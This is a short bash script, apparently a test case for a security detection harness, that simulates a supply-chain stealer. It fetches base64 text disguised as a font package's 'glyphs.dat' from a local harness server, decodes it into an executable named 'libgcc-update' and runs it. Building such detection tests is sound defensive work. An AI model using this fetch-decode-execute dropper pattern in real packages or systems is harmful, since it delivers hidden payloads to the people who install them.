#!/bin/bash
# technique: T1140 Deobfuscate/Decode Files or Information; T1027 Obfuscated Files or Information; T1105 Ingress Tool Transfer
# reproduces: npm/PyPI stealers that bundle their second stage as base64 text in a data file and decode it to disk at install time (`base64 -d blob > file; chmod +x file; ./file`)
# expect: dropped-file-executed ^libgcc-update$
# exec-borne: yes
#
# The package asset (fetched from the registry, here the harness) is
# base64 text; base64 -d writes the ELF, which is then run.
set -u

pkg="${BW_ATTACK_TMP:?}/node_modules/acme-fonts"
mkdir -p "$pkg/dist"
trap 'rm -rf "${BW_ATTACK_TMP:?}/node_modules"' EXIT

curl -fsS --connect-timeout 5 -o "$pkg/dist/glyphs.dat" \
	"http://127.0.0.1:${BW_ATTACK_PORT:?}/agent.b64" || exit 1

unpack() {
	local src=$1 out=$2
	base64 -d <"$src" >"$out" && chmod u+x "$out"
}

unpack "$pkg/dist/glyphs.dat" "$pkg/dist/libgcc-update" && "$pkg/dist/libgcc-update"
